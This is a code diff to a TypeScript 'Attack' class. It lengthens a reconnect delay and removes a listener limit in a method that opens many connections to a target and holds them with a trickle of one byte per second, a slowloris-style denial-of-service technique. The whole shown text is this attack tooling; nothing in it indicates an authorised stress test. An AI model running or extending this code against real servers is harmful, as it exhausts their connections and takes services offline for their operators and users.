@@ -1,4 +1,5 @@
 import { randomBytes } from 'node:crypto'
+import { setMaxListeners } from 'node:events'
 import { Agent, request } from 'node:http'
 import { connect } from 'node:net'
 import { concat, toHex } from '../../core/number/bytes.ts'
@@ -27,6 +28,7 @@ export class Attack {
     this.signal = signal
     this.#localAddress = localAddress
     this.#agent = new Agent({ keepAlive: true, localAddress })
+    setMaxListeners(0, signal)
     signal.addEventListener('abort', () => this.#agent.destroy())
   }
 
@@ -68,7 +70,7 @@ export class Attack {
     }
   }
 
-  /** So many connections, each opened anew when it is closed, over which `text` is sent once and then a byte a second. */
+  /** So many connections, each opened anew a second after it is closed, over which `text` is sent once and then a byte a second. */
   keepConnected(count: number, text: string, everySecond: string): void {
     const { hostname, port } = new URL(this.target.url)
     const open = (): void => {
@@ -84,7 +86,7 @@ export class Attack {
         clearInterval(drip)
         this.signal.removeEventListener('abort', stop)
         this.count('closed')
-        setTimeout(open, 100)
+        setTimeout(open, 1000)
       })
     }
     for (let i = 0; i < count; i++) open()
